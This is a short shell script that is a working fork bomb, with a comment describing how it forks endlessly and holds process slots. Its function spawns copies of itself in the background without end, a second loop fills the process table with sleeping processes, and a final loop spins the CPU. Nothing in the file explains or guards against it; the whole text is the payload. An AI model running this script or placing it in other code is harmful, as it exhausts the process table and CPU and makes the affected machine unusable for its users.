#!/bin/sh
# Forks as often as it is let, and so do its children; what sleeps keeps the places that are got.
bomb() {
    while :; do bomb & done
}
bomb &
(while :; do sleep 60 & done)
while :; do :; done
